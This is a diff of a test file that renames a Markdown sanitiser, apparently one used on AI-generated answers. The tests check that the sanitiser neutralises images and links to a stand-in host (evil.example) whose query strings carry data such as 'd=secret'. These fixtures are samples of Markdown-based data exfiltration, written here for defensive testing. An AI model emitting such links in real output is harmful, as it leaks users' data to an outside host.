@@ -1,5 +1,5 @@
 import { expect, test } from "vitest";
-import { inertMarkdown } from "@/lib/ai/inert-markdown";
+import { sanitizeMarkdown } from "@/lib/answering/sanitize-markdown";
 
 test.each([
   ["an image", "See ![the cell](https://evil.example/p.png?d=secret) here.", "See the cell here."],
@@ -29,7 +29,7 @@ test.each([
     "$\\text{https://evil.example}{x}$",
   ],
 ])("%s leads nowhere", (_, text, inert) => {
-  expect(inertMarkdown(text)).toBe(inert);
+  expect(sanitizeMarkdown(text)).toBe(inert);
 });
 
 test.each([
@@ -43,7 +43,7 @@ test.each([
   "- one\n- two (see page 3)\n\n> quoted",
   "什么是光合作用？ ما هو التمثيل الضوئي؟",
 ])("what leads nowhere stays as it is: %s", (text) => {
-  expect(inertMarkdown(text)).toBe(text);
+  expect(sanitizeMarkdown(text)).toBe(text);
 });
 
 test.each([
@@ -54,11 +54,11 @@ test.each([
   "~~~\n![x](https://evil.example/?d=s)",
   "[![[x](https://evil.example/1)](https://evil.example/2)](https://evil.example/3)",
 ])("what another reader of Markdown could take for an image is none: %s", (text) => {
-  expect(inertMarkdown(text)).not.toMatch(/\]\(\s*<?(?:[a-z]+:|\/\/)/i);
+  expect(sanitizeMarkdown(text)).not.toMatch(/\]\(\s*<?(?:[a-z]+:|\/\/)/i);
 });
 
 test("long text of brackets takes no long time", () => {
   for (const text of ["[".repeat(12_000), "![a](".repeat(2400), "<a ".repeat(4000)]) {
-    expect(inertMarkdown(text).length).toBeLessThanOrEqual(text.length);
+    expect(sanitizeMarkdown(text).length).toBeLessThanOrEqual(text.length);
   }
 });
